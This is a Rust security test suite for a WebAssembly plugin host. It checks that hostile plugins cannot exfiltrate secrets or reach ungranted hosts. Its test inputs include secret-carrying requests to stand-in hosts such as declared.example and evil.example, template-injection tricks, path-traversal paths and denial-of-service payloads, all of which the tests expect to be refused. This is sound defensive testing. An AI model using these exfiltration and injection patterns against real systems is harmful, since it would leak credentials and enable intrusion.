//! The trust boundary against plugins that are trying (docs/security.md): real hostile
//! components (`tests/plugins/{chaos,greedy,impostor}`), the real binary, fake vendors
//! on 127.0.0.1 that record everything they see.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use super::plugins::plugin_file;
use super::serve::{Server, pipelines_dir};
use crate::support::{self, Fake, Reply};

const KEY: &str = "sk_granted_5f4e3d2c1b";
const OTHER: &str = "sk_other_9a8b7c6d5e";

/// A plugin directory holding the named fixture components.
fn fixtures(dir: &Path, names: &[(&str, &str)]) -> PathBuf {
    let p = dir.join("plugins");
    std::fs::create_dir_all(&p).unwrap();
    for (from, name) in names {
        std::fs::copy(plugin_file(from, name), p.join(format!("{name}.wasm"))).unwrap();
    }
    p
}

/// A chaos stage that sends whatever request the run's input holds under its id: the
/// request text comes from data, as a hostile plugin's own strings would.
fn call(
    id: &str,
    granted: &str,
    request: Value,
    requests: &mut serde_json::Map<String, Value>,
) -> Value {
    requests.insert(id.to_string(), request);
    json!({"id": id, "component": "chaos", "optional": true,
           "allowed_hosts": [granted],
           "config": {"mode": "call", "token": "{{secrets.KEY}}", "request": format!("{{{{input.requests.{id}}}}}")}})
}

/// Every trick a connector can play with a request, each in its own stage of one run.
/// Each is refused or stays literal text; the host nobody granted never hears a thing,
/// and no secret value appears in stdout, stderr or the report.
#[tokio::test]
async fn a_hostile_connector_gets_no_secret_and_reaches_no_ungranted_host() {
    let granted = Fake::start().await;
    let other = Fake::start().await;
    for path in ["/ok", "/other", "/upper", "/c", "/data"] {
        granted.route(path, vec![Reply::json(200, json!({"ok": true}))]);
    }
    granted.route(
        "/redirect",
        vec![Reply::status(302).header("location", &other.url("/landing"))],
    );
    // An upstream that echoes the credential it was sent.
    granted.route(
        "/echo",
        vec![Reply::json(
            200,
            json!({"you_sent": format!("Bearer {KEY}")}),
        )],
    );
    let g = format!("127.0.0.1:{}", granted.addr.port());
    let bomb = format!("{{{{{}x{}}}}}", "(".repeat(5000), ")".repeat(5000));
    let bearer = |v: &str| json!({"Authorization": v});
    let mut requests = serde_json::Map::new();
    let r = &mut requests;
    let stages = vec![
        call(
            "ok",
            &g,
            json!({"url": granted.url("/ok"), "headers": bearer("Bearer {{secrets.KEY}}")}),
            r,
        ),
        call(
            "ungranted-secret",
            &g,
            json!({"url": granted.url("/other"), "headers": bearer("Bearer {{secrets.OTHER}}")}),
            r,
        ),
        call(
            "unbound-host",
            &g,
            json!({"url": other.url("/unbound"), "headers": bearer("Bearer {{secrets.KEY}}")}),
            r,
        ),
        call(
            "declared-host",
            &g,
            json!({"url": "https://declared.example/collect", "headers": bearer("Bearer {{secrets.KEY}}")}),
            r,
        ),
        call(
            "secret-base",
            &g,
            json!({"url": "{{secrets.OTHER_URL}}/base"}),
            r,
        ),
        call(
            "default-trick",
            &g,
            json!({"url": format!("{{{{secrets.UNSET | default('{}')}}}}/x?k={{{{secrets.KEY}}}}", other.url("")) }),
            r,
        ),
        call(
            "upper-filter",
            &g,
            json!({"url": granted.url("/upper"), "headers": bearer("Bearer {{secrets.KEY | upper}}")}),
            r,
        ),
        call(
            "secret-in-path",
            &g,
            json!({"url": format!("{}/{{{{secrets.KEY}}}}", granted.url("/c")), "body": "{{secrets.KEY}}"}),
            r,
        ),
        call(
            "redirect",
            &g,
            json!({"url": granted.url("/redirect"), "headers": bearer("Bearer {{secrets.KEY}}")}),
            r,
        ),
        call(
            "echo",
            &g,
            json!({"url": granted.url("/echo"), "headers": bearer("Bearer {{secrets.KEY}}")}),
            r,
        ),
    ];
    let mut stages = stages;
    // Run input that looks like a template flows into the request as text.
    stages.push(
        json!({"id": "data", "component": "chaos", "optional": true, "allowed_hosts": [g],
        "config": {"mode": "call", "token": "{{secrets.KEY}}", "request": {
            "url": format!("{}?id={{{{input.id}}}}&b={{{{input.bomb}}}}", granted.url("/data")),
            "headers": {"X-Customer-Id": "{{input.id}}"}}}}),
    );
    let dir = support::scratch("security-hostile");
    let pipeline = support::write_json(
        &dir,
        "hostile.json",
        &json!({"name": "hostile", "stages": stages}),
    );
    let plugins = fixtures(&dir, &[("target/test-plugins", "chaos")]);
    let report = dir.join("report.json");
    let mut cmd = support::fmhost();
    cmd.args(["--log-format", "json", "run"])
        .arg(&pipeline)
        .arg("--plugins")
        .arg(&plugins)
        .arg("--report")
        .arg(&report)
        .arg("--input-json")
        .arg(json!({"id": "{{secrets.KEY}}", "bomb": bomb, "requests": requests}).to_string())
        .env("FMHOST_SECRET_KEY", KEY)
        .env("FMHOST_SECRET_OTHER", OTHER)
        // The same host by another name: a secret's value found in data (the requests
        // above) is masked before a plugin sees it, which would hide what is tested.
        .env(
            "FMHOST_SECRET_OTHER_URL",
            format!("http://localhost:{}", other.addr.port()),
        );
    let ran: support::Ran = support::output(cmd).await.into();
    let report_text =
        std::fs::read_to_string(&report).unwrap_or_else(|e| panic!("{e}: {}", ran.stderr));
    let r: Value = serde_json::from_str(&report_text).unwrap();
    let stage = |id: &str| {
        r["stages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["id"] == id)
            .cloned()
            .unwrap_or_else(|| panic!("no stage {id} in {r}"))
    };
    let error = |id: &str| {
        let s = stage(id);
        assert_eq!(s["error"]["kind"], "sandbox", "{id}: {s}");
        s["error"]["message"].as_str().unwrap().to_string()
    };

    assert_eq!(stage("ok")["status"], "succeeded", "{}", ran.stderr);
    assert_eq!(
        granted.seen("/ok")[0].header("authorization"),
        Some(format!("Bearer {KEY}").as_str())
    );

    let e = error("ungranted-secret");
    assert!(e.contains("plugin chaos in stage ungranted-secret: refused: header Authorization: secret OTHER was not granted"), "{e}");
    assert!(error("unbound-host").contains(&format!(
        "host 127.0.0.1:{} is not granted",
        other.addr.port()
    )));
    assert!(
        error("declared-host").contains("declares declared.example but declaring is not granting")
    );
    assert!(error("secret-base").contains("url: secret OTHER_URL was not granted"));
    let e = error("redirect");
    assert!(
        e.contains("redirect to") && e.contains("refused") && e.contains("is not granted"),
        "{e}"
    );

    // Tricks that are not slots are text: nothing is substituted, nothing sent elsewhere.
    let out = |id: &str| stage(id)["output"].clone();
    assert!(
        out("default-trick")["error"]["kind"]
            .as_str()
            .unwrap()
            .ends_with("InvalidRequest"),
        "{}",
        out("default-trick")
    );
    let upper = &granted.seen("/upper")[0];
    assert_eq!(
        upper.header("authorization"),
        Some("Bearer {{secrets.KEY | upper}}")
    );
    let in_path: Vec<_> = granted
        .all_seen()
        .into_iter()
        .filter(|s| s.path.starts_with("/c/"))
        .collect();
    assert_eq!(in_path.len(), 1, "{:?}", granted.all_seen());
    assert!(
        in_path[0].path.contains("secrets.KEY")
            && in_path[0].body.as_ref() == b"\"{{secrets.KEY}}\"",
        "{:?}",
        in_path[0]
    );
    let data = &granted.seen("/data")[0];
    assert_eq!(data.header("x-customer-id"), Some("{{secrets.KEY}}"));
    assert!(
        data.query.contains("secrets.KEY") && data.query.contains("(((("),
        "{}",
        data.query
    );
    // The echoed credential is masked before the plugin sees the body.
    let echoed = out("echo")["body"].as_str().unwrap().to_string();
    assert!(
        echoed.contains("Bearer ***") && !echoed.contains(KEY),
        "{echoed}"
    );

    assert!(
        other.all_seen().is_empty(),
        "the ungranted host saw {:?}",
        other.all_seen()
    );
    for seen in granted.all_seen() {
        let text = format!("{seen:?}");
        assert!(
            !text.contains(OTHER),
            "OTHER reached the granted host: {text}"
        );
    }
    for (what, text) in [
        ("stdout", &ran.stdout),
        ("stderr", &ran.stderr),
        ("report", &report_text),
    ] {
        assert!(
            !text.contains(KEY) && !text.contains(OTHER),
            "a secret in {what}"
        );
    }
}

/// Two plugins spinning on the two cores of this machine neither stop `/healthz` from
/// answering nor outlive the run's own deadline; flooding stderr is not a trap, and
/// recursing until the stack runs out is a sandbox error, not a dead host.
#[tokio::test]
async fn spinning_flooding_and_recursing_plugins_do_not_take_the_host_down() {
    let dir = support::scratch("security-spin");
    let plugins = fixtures(&dir, &[("target/test-plugins", "chaos")]);
    let one = |mode: Value| json!({"name": "one", "stages": [{"id": "chaos", "component": "chaos", "config": mode}]});

    let spin = support::write_json(&dir, "spin.json", &one(json!({"mode": "spin"})));
    let started = Instant::now();
    let mut cmd = support::fmhost();
    cmd.arg("run")
        .arg(&spin)
        .arg("--plugins")
        .arg(&plugins)
        .args(["--timeout", "3s"]);
    let ran: support::Ran = support::output(cmd).await.into();
    let took = started.elapsed();
    assert_eq!(ran.code, 1, "{}", ran.stderr);
    assert!(
        ran.stderr.contains("run timed out after 3s"),
        "{}",
        ran.stderr
    );
    // The plugin's own CPU deadline is 30 s; only the run's deadline can end it this soon.
    assert!(took < Duration::from_secs(20), "took {took:?}");

    for (mode, expect_code, expect) in [
        (json!({"mode": "flood", "mib": 8}), 0, "flooded"),
        (json!({"mode": "recurse"}), 1, "plugin chaos trapped"),
    ] {
        let p = support::write_json(&dir, "one.json", &one(mode.clone()));
        let mut cmd = support::fmhost();
        cmd.arg("run").arg(&p).arg("--plugins").arg(&plugins);
        let ran: support::Ran = support::output(cmd).await.into();
        assert_eq!(ran.code, expect_code, "{mode}: {}", ran.stderr);
        assert!(
            ran.stdout.contains(expect) || ran.stderr.contains(expect),
            "{mode}: {}",
            ran.stderr
        );
    }

    let pipelines = pipelines_dir(
        &dir,
        &[(
            "spin.json",
            json!({"name": "spin", "stages": [
        {"id": "chaos", "component": "chaos", "timeout": "20s", "config": {"mode": "spin"}}]}),
        )],
    );
    support::write_json(
        &pipelines,
        "selfcall.json",
        &json!({"name": "selfcall", "stages": [
        {"id": "chaos", "component": "chaos", "allowed_hosts": ["127.0.0.1", "localhost"],
         "config": {"mode": "call", "request": "{{input.request}}"}}]}),
    );
    let server = Server::start(&dir, &pipelines, &plugins, &json!({}));
    let client = support::api_client();
    // A plugin granted "127.0.0.1" on any port still cannot call this server's own API.
    let port = server.url.rsplit(':').next().unwrap().to_string();
    for url in [
        format!("{}/v1/plugins", server.url),
        format!("http://localhost:{port}/v1/runs"),
    ] {
        let resp = client
            .post(format!("{}/v1/pipelines/selfcall/runs", server.url))
            .json(&json!({"request": {"url": url}}))
            .send()
            .await
            .unwrap();
        let text = resp.text().await.unwrap();
        assert!(
            text.contains("is this fmhost server's own address"),
            "{text}"
        );
    }
    for _ in 0..2 {
        let resp = client
            .post(format!("{}/v1/pipelines/spin/runs?mode=async", server.url))
            .json(&json!({}))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 202, "{}", server.log());
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut worst = Duration::ZERO;
    for _ in 0..20 {
        let t = Instant::now();
        let resp = client
            .get(format!("{}/healthz", server.url))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
        worst = worst.max(t.elapsed());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    eprintln!("healthz, worst of 20 while two plugins spin: {worst:?}");
    assert!(
        worst < Duration::from_secs(1),
        "healthz took {worst:?} while plugins spin"
    );
}

/// A plugin cannot take a built-in's name; a hot swap whose new version asks for a host
/// the current one was not granted is refused unless approved in the same call, an
/// approved host still carries no credential, and the uploaded version survives a restart.
#[tokio::test]
async fn names_are_guarded_and_a_swap_that_asks_for_more_is_refused() {
    let dir = support::scratch("security-names");
    let impostor = fixtures(
        &dir.join("impostor"),
        &[("target/test-plugins", "impostor")],
    );
    let p = support::write_json(
        &dir,
        "v.json",
        &json!({"name": "v", "stages": [{"id": "a", "component": "logger", "config": {"message": "x"}}]}),
    );
    let mut cmd = support::fmhost();
    cmd.arg("run").arg(&p).arg("--plugins").arg(&impostor);
    let ran: support::Ran = support::output(cmd).await.into();
    assert_eq!(ran.code, 2, "{}", ran.stderr);
    assert!(
        ran.stderr
            .contains("\"schema_validate\" is the name of a built-in component"),
        "{}",
        ran.stderr
    );

    // A component that imports wasi:http is refused before it is compiled.
    let http = dir.join("http.wasm");
    std::fs::write(
        &http,
        wat::parse_str(r#"(component (import "wasi:http/outgoing-handler@0.2.0" (instance)))"#)
            .unwrap(),
    )
    .unwrap();
    let mut cmd = support::fmhost();
    cmd.args(["plugins", "inspect"]).arg(&http);
    let ran: support::Ran = support::output(cmd).await.into();
    assert_ne!(ran.code, 0);
    assert!(
        ran.stderr
            .contains("imports wasi:http/outgoing-handler@0.2.0, which fmhost does not grant"),
        "{}",
        ran.stderr
    );

    let plugins = fixtures(&dir, &[("target/plugins", "intercom")]);
    let pipelines = pipelines_dir(
        &dir,
        &[(
            "ic.json",
            json!({"name": "ic", "stages": [
        {"id": "fetch", "component": "intercom", "config": {"contact_id": "c1"}}]}),
        )],
    );
    let mut server = Server::start(&dir, &pipelines, &plugins, &json!({"INTERCOM_TOKEN": KEY}));
    let client = support::api_client();
    let greedy = std::fs::read(plugin_file("target/test-plugins", "greedy")).unwrap();
    let put = |approve: bool| {
        client
            .put(format!(
                "{}/v1/plugins/intercom{}",
                server.url,
                if approve { "?approve=true" } else { "" }
            ))
            .body(greedy.clone())
            .send()
    };
    let refused = put(false).await.unwrap();
    assert_eq!(refused.status(), 409);
    let body: Value = refused.json().await.unwrap();
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("asks for host(s) collector.example"),
        "{body}"
    );
    let listed: Value = client
        .get(format!("{}/v1/plugins", server.url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let intercom = |listed: &Value| {
        listed
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["name"] == "intercom")
            .unwrap()["version"]
            .clone()
    };
    assert_ne!(
        intercom(&listed),
        "6.6.6",
        "the current version keeps serving"
    );

    let approved = put(true).await.unwrap();
    assert_eq!(approved.status(), 200);
    let resp = client
        .post(format!("{}/v1/pipelines/ic/runs", server.url))
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    let run: Value = resp.json().await.unwrap();
    let text = run.to_string();
    assert!(
        text.contains("secret INTERCOM_TOKEN is not bound to host collector.example"),
        "{text}"
    );
    assert!(!text.contains(KEY));

    server.terminate();
    let server = Server::start(&dir, &pipelines, &plugins, &json!({"INTERCOM_TOKEN": KEY}));
    let listed: Value = client
        .get(format!("{}/v1/plugins", server.url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(
        intercom(&listed),
        "6.6.6",
        "the upload serves after a restart: {listed}"
    );
}

/// Run input that reads `{{secrets.KEY}}` is text on the first run and stays text when
/// the journal hands it back to a replay: data never becomes a reference.
#[tokio::test]
async fn data_that_looks_like_a_reference_stays_text_through_a_replay() {
    let fake = Fake::start().await;
    let dir = support::scratch("security-replay");
    let state = dir.join("state");
    let pipeline = support::write_json(
        &dir,
        "lookup.json",
        &json!({"name": "lookup", "stages": [
        {"id": "fetch", "component": "http-request", "config": {
            "url": format!("{}/c", fake.url("")), "query_params": {"id": "{{input.id}}"},
            "headers": {"Authorization": "Bearer {{secrets.KEY}}"}}}]}),
    );
    let fmhost = |args: Vec<String>| {
        let mut cmd = support::fmhost();
        cmd.arg("--state")
            .arg(&state)
            .args(args)
            .env("FMHOST_SECRET_KEY", KEY);
        support::output(cmd)
    };
    let first: support::Ran = fmhost(vec![
        "run".into(),
        pipeline.display().to_string(),
        "--input-json".into(),
        json!({"id": "{{secrets.KEY}}"}).to_string(),
    ])
    .await
    .into();
    // The fake answers 404 (no route): the run fails, which is what a replay is for.
    assert_eq!(first.code, 1, "{}", first.stderr);
    let runs: support::Ran = fmhost(vec!["runs".into(), "list".into(), "--json".into()])
        .await
        .into();
    let run_id = runs.json()[0]["run_id"].as_str().unwrap().to_string();
    let again: support::Ran = fmhost(vec!["replay".into(), run_id]).await.into();
    assert_eq!(again.code, 1, "{}", again.stderr);
    let seen = fake.seen("/c");
    assert_eq!(seen.len(), 2, "{seen:?}");
    for s in &seen {
        assert_eq!(
            s.query, "id=%7B%7Bsecrets.KEY%7D%7D",
            "the id went out as the text it was"
        );
        assert!(!s.query.contains(KEY));
    }
}

/// A run the server stopped during is resumed once; stopped during again, it is
/// dead-lettered with the reason at the next start instead of being resumed blindly, so
/// a run that kills the process cannot do so at every start.
#[tokio::test]
async fn a_run_that_keeps_stopping_the_server_is_dead_lettered_not_resumed_forever() {
    let fake = Fake::start().await;
    fake.route(
        "/slow",
        vec![Reply::json(200, json!({})).delay(Duration::from_secs(60))],
    );
    let dir = support::scratch("security-crash-loop");
    let pipelines = pipelines_dir(
        &dir,
        &[(
            "slow.json",
            json!({"name": "slow", "stages": [
        {"id": "wait", "component": "http-request", "config": {"url": fake.url("/slow")}}]}),
        )],
    );
    let plugins = dir.join("no-plugins");
    let client = support::api_client();
    let mut server = Server::start(&dir, &pipelines, &plugins, &json!({}));
    let accepted: Value = client
        .post(format!("{}/v1/pipelines/slow/runs?mode=async", server.url))
        .json(&json!({}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let run_id = accepted["run_id"].as_str().unwrap().to_string();
    let calls = |n: usize| {
        let fake = fake.clone();
        async move {
            let deadline = Instant::now() + Duration::from_secs(10);
            while fake.seen("/slow").len() < n {
                assert!(Instant::now() < deadline, "the run never called the vendor");
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        }
    };
    calls(1).await;
    server.child.kill().unwrap();
    let _ = server.child.wait();

    let mut server = Server::start(&dir, &pipelines, &plugins, &json!({}));
    calls(2).await;
    assert!(
        server.log().contains("resuming interrupted run"),
        "{}",
        server.log()
    );
    server.child.kill().unwrap();
    let _ = server.child.wait();

    let server = Server::start(&dir, &pipelines, &plugins, &json!({}));
    let run: Value = client
        .get(format!("{}/v1/runs/{run_id}", server.url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(run["status"], "failed", "{run}");
    let dlq: Value = client
        .get(format!("{}/v1/dlq", server.url))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let entry = dlq
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["run_id"] == run_id.as_str())
        .unwrap_or_else(|| panic!("{dlq}"));
    assert!(
        entry
            .to_string()
            .contains("not resumed, in case it is what stops the server"),
        "{entry}"
    );
    assert_eq!(fake.seen("/slow").len(), 2, "not called a third time");
}

const ADMIN: &str = "admin-token-aaaaaaaaaaaaaaaa";
const READ: &str = "read-token-rrrrrrrrrrrrrrrrr";
const RUN: &str = "run-token-uuuuuuuuuuuuuuuuuu";

/// The exposed server: every `/v1/` route needs a bearer token of the right scope, only
/// requests addressed to this server by a name it answers to and not sent by a foreign
/// page get through, names from paths are checked, and bodies past their limit are 413
/// without the server buffering them.
#[tokio::test]
async fn the_api_needs_the_right_token_from_this_server_only() {
    let dir = support::scratch("security-api");
    let pipelines = pipelines_dir(
        &dir,
        &[(
            "p.json",
            json!({"name": "p", "stages": [
        {"id": "log", "component": "logger", "config": {"message": "hi"}}],
        "triggers": [{"type": "webhook", "path": "/hooks/x", "secret": "{{secrets.HOOK}}", "signature": "github"}]}),
        )],
    );
    let tokens = dir.join("tokens");
    std::fs::write(&tokens, format!("admin {ADMIN}\nread {READ}\nrun {RUN}\n")).unwrap();
    let plugins = dir.join("no-plugins");
    let server = Server::start_with(
        &dir,
        &pipelines,
        &plugins,
        &json!({"HOOK": "hook-secret-123456"}),
        &["--api-token-file", tokens.to_str().unwrap()],
    );
    let plain = reqwest::Client::new();
    let url = |p: &str| format!("{}{p}", server.url);
    let status =
        |req: reqwest::RequestBuilder| async move { req.send().await.unwrap().status().as_u16() };
    let routes = [
        ("GET", "/v1/runs"),
        ("GET", "/v1/runs/run_x"),
        ("POST", "/v1/runs/run_x/replay"),
        ("GET", "/v1/dlq"),
        ("GET", "/v1/dlq/1"),
        ("DELETE", "/v1/dlq/1"),
        ("POST", "/v1/dlq/1/retry"),
        ("GET", "/v1/plugins"),
        ("PUT", "/v1/plugins/x"),
        ("POST", "/v1/plugins/x/rollback"),
        ("POST", "/v1/pipelines/p/runs"),
        ("GET", "/metrics"),
    ];
    for (m, p) in routes {
        let req = plain.request(m.parse().unwrap(), url(p));
        assert_eq!(status(req).await, 401, "{m} {p} without a token");
        let req = plain
            .request(m.parse().unwrap(), url(p))
            .bearer_auth("not-a-token-at-all-000000");
        assert_eq!(status(req).await, 401, "{m} {p} with a wrong token");
    }
    for p in ["/healthz", "/readyz"] {
        assert_eq!(status(plain.get(url(p))).await, 200, "{p} stays open");
    }
    let with = |t: &'static str, m: &str, p: &str| {
        plain.request(m.parse().unwrap(), url(p)).bearer_auth(t)
    };
    assert_eq!(status(with(READ, "GET", "/v1/runs")).await, 200);
    assert_eq!(status(with(READ, "GET", "/metrics")).await, 200);
    for (m, p) in [
        ("PUT", "/v1/plugins/x"),
        ("POST", "/v1/pipelines/p/runs"),
        ("POST", "/v1/runs/run_x/replay"),
        ("DELETE", "/v1/dlq/1"),
        ("POST", "/v1/plugins/x/rollback"),
    ] {
        assert_eq!(
            status(with(READ, m, p)).await,
            403,
            "{m} {p} with a read token"
        );
    }
    assert_eq!(status(with(RUN, "POST", "/v1/pipelines/p/runs")).await, 200);
    assert_eq!(status(with(RUN, "PUT", "/v1/plugins/x")).await, 403);
    assert_eq!(
        status(with(ADMIN, "PUT", "/v1/plugins/..%2F..%2Fetc").body("x")).await,
        400
    );
    assert_eq!(
        status(with(ADMIN, "GET", "/v1/runs/..%2Fjournal.db")).await,
        400
    );

    // A foreign Host (DNS rebinding) and a page on another origin are refused.
    assert_eq!(
        status(plain.get(url("/healthz")).header("host", "evil.example")).await,
        421
    );
    let port = server.url.rsplit(':').next().unwrap();
    assert_eq!(
        status(plain.get(format!("http://localhost:{port}/healthz"))).await,
        200
    );
    let cross = with(ADMIN, "POST", "/v1/pipelines/p/runs")
        .header("origin", "http://evil.example")
        .header("content-type", "text/plain")
        .body("{}");
    assert_eq!(status(cross).await, 403);

    // Bodies past their limit: 413, and the server does not buffer them.
    let addr = server.url.trim_start_matches("http://").to_string();
    let auth = format!("Authorization: Bearer {RUN}\r\n");
    let answer = raw_post(&addr, "/v1/pipelines/p/runs", &auth, Some(5 << 20), 5 << 20).await;
    assert!(
        answer.starts_with("HTTP/1.1 413"),
        "5 MiB run input: {answer}"
    );
    let answer = raw_post(&addr, "/hooks/x", "", Some(2 << 20), 2 << 20).await;
    assert!(
        answer.starts_with("HTTP/1.1 413"),
        "2 MiB webhook: {answer}"
    );
    let answer = raw_post(&addr, "/hooks/x", "", None, 512 << 20).await;
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 413"),
        "512 MiB chunked: {answer}"
    );
    let status_file =
        std::fs::read_to_string(format!("/proc/{}/status", server.child.id())).unwrap();
    let hwm_kib: u64 = status_file
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap();
    eprintln!(
        "server peak RSS after a 512 MiB chunked webhook: {} MiB",
        hwm_kib >> 10
    );
    assert!(hwm_kib < 200 << 10, "peak RSS {hwm_kib} KiB");
}

/// Streams a POST of `total` bytes (with `Content-Length`, or chunked when `None`) until
/// the server stops reading; returns what it answered (empty if it just closed).
async fn raw_post(
    addr: &str,
    path: &str,
    extra: &str,
    length: Option<usize>,
    total: usize,
) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let framing = match length {
        Some(n) => format!("Content-Length: {n}"),
        None => "Transfer-Encoding: chunked".to_string(),
    };
    let head = format!("POST {path} HTTP/1.1\r\nHost: {addr}\r\n{extra}{framing}\r\n\r\n");
    s.write_all(head.as_bytes()).await.unwrap();
    let chunk = vec![b'x'; 64 << 10];
    let frame = match length {
        Some(_) => chunk,
        None => [
            format!("{:x}\r\n", chunk.len()).into_bytes(),
            chunk,
            b"\r\n".to_vec(),
        ]
        .concat(),
    };
    let mut sent = 0;
    while sent < total {
        match tokio::time::timeout(Duration::from_secs(2), s.write_all(&frame)).await {
            Ok(Ok(())) => sent += frame.len(),
            _ => break,
        }
    }
    let mut buf = vec![0u8; 4096];
    let n = tokio::time::timeout(Duration::from_secs(2), s.read(&mut buf))
        .await
        .ok()
        .and_then(Result::ok)
        .unwrap_or(0);
    String::from_utf8_lossy(&buf[..n]).into_owned()
}

/// With no token configured, the first start writes one (0600) into the state directory
/// and says where; the CLI's `--server` commands read it from there.
#[tokio::test]
async fn a_first_start_writes_its_tokens_and_the_cli_reads_them() {
    use std::io::{BufRead, BufReader};
    let dir = support::scratch("security-token-file");
    let pipelines = pipelines_dir(
        &dir,
        &[(
            "p.json",
            json!({"name": "p", "stages": [
        {"id": "log", "component": "logger", "config": {"message": "hi"}}]}),
        )],
    );
    let state = dir.join("state");
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_fmhost"));
    cmd.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .arg("--state")
        .arg(&state)
        .args(["serve", "--listen", "127.0.0.1:0"])
        .arg("--pipelines")
        .arg(&pipelines)
        .arg("--plugins")
        .arg(dir.join("none"))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null());
    std::fs::create_dir_all(dir.join("none")).unwrap();
    let mut child = cmd.spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let url = lines
        .next()
        .unwrap()
        .unwrap()
        .trim_start_matches("listening on ")
        .to_string();
    let note = lines.next().unwrap().unwrap();
    let file = state.join("api-tokens");
    assert!(
        note.contains(&file.display().to_string()) && note.contains("created now"),
        "{note}"
    );
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&file).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let mut cli = std::process::Command::new(env!("CARGO_BIN_EXE_fmhost"));
    cli.env_clear()
        .arg("--state")
        .arg(&state)
        .args(["plugins", "rollback", "nope", "--server", &url]);
    let ran: support::Ran = support::output(cli).await.into();
    // Authenticated: the server answers about the plugin, not about the token.
    assert!(
        ran.stderr.contains("no plugin named \"nope\""),
        "{}",
        ran.stderr
    );
    let _ = child.kill();
    let _ = child.wait();
}

/// Unmounts a tmpfs the test mounted, whatever happens.
struct Mount(PathBuf);

impl Drop for Mount {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .arg("-l")
            .arg(&self.0)
            .status();
    }
}

/// With the journal's disk full, runs are answered 503 and nothing is half-accepted;
/// once space returns, runs are accepted again, and every run that was answered
/// 200 or 202 is in the journal.
#[tokio::test]
async fn a_full_disk_turns_runs_into_503_and_loses_nothing_acknowledged() {
    let dir = support::scratch("security-disk-full");
    let pipelines = pipelines_dir(
        &dir,
        &[(
            "p.json",
            json!({"name": "p", "stages": [
        {"id": "log", "component": "logger", "config": {"message": "{{input.n}}"}}]}),
        )],
    );
    let state = dir.join("state");
    std::fs::create_dir_all(&state).unwrap();
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=8m", "tmpfs"])
        .arg(&state)
        .status()
        .unwrap();
    assert!(
        mounted.success(),
        "this test mounts a small tmpfs under the journal (it needs root, as CI has)"
    );
    let _mount = Mount(state.clone());
    let plugins = dir.join("no-plugins");
    // The server's state directory is `dir/state`: the tmpfs.
    let mut server = Server::start(&dir, &pipelines, &plugins, &json!({}));
    let client = support::api_client();
    let run = |n: u32, mode: &'static str| {
        let client = client.clone();
        let url = format!("{}/v1/pipelines/p/runs?mode={mode}", server.url);
        async move {
            let r = client
                .post(url)
                .json(&json!({"n": n}))
                .send()
                .await
                .unwrap();
            let status = r.status().as_u16();
            (status, r.json::<Value>().await.unwrap_or_default())
        }
    };
    let mut kept = Vec::new();
    for n in 0..5 {
        let (s, body) = run(n, "sync").await;
        assert_eq!(s, 200, "{body}");
        kept.push(body["run_id"].as_str().unwrap().to_string());
    }
    // Fill the disk.
    let filler = state.join("filler");
    {
        use std::io::Write;
        let mut f = std::fs::File::create(&filler).unwrap();
        let block = vec![0u8; 64 << 10];
        while f.write_all(&block).is_ok() {}
        let _ = f.sync_all();
    }
    let mut refused = 0;
    for n in 10..20 {
        for mode in ["sync", "async"] {
            let (s, body) = run(n, mode).await;
            match s {
                200 | 202 => kept.push(body["run_id"].as_str().unwrap().to_string()),
                503 => {
                    refused += 1;
                    assert_eq!(body["title"], "journal unavailable", "{body}");
                }
                other => panic!("{other}: {body}"),
            }
        }
    }
    assert!(refused > 0, "a full disk refused nothing");
    std::fs::remove_file(&filler).unwrap();
    for n in 30..35 {
        for mode in ["sync", "async"] {
            let (s, body) = run(n, mode).await;
            assert!(s == 200 || s == 202, "{s} once space returned: {body}");
            kept.push(body["run_id"].as_str().unwrap().to_string());
        }
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    for id in &kept {
        let r = client
            .get(format!("{}/v1/runs/{id}", server.url))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "acknowledged run {id} is missing");
    }
    eprintln!(
        "disk full: {refused} of 20 runs refused with 503; {} acknowledged runs all kept",
        kept.len()
    );
    server.terminate();
}

/// A stage output nested deeper than the JSON parser's default limit (a 127-level body
/// inside http-request's `{status_code, headers, body}`) comes back from the journal
/// unchanged, not as `null`.
#[tokio::test]
async fn a_deeply_nested_output_round_trips_through_the_journal() {
    let fake = Fake::start().await;
    let deep: Value =
        serde_json::from_str(&format!("{}1{}", "[".repeat(127), "]".repeat(127))).unwrap();
    fake.route("/deep", vec![Reply::json(200, deep.clone())]);
    let dir = support::scratch("security-deep");
    let state = dir.join("state");
    let p = support::write_json(
        &dir,
        "deep.json",
        &json!({"name": "deep", "stages": [
        {"id": "fetch", "component": "http-request", "config": {"url": fake.url("/deep")}}]}),
    );
    let mut cmd = support::fmhost();
    cmd.arg("--state").arg(&state).arg("run").arg(&p);
    let ran: support::Ran = support::output(cmd).await.into();
    assert_eq!(ran.code, 0, "{}", ran.stderr);
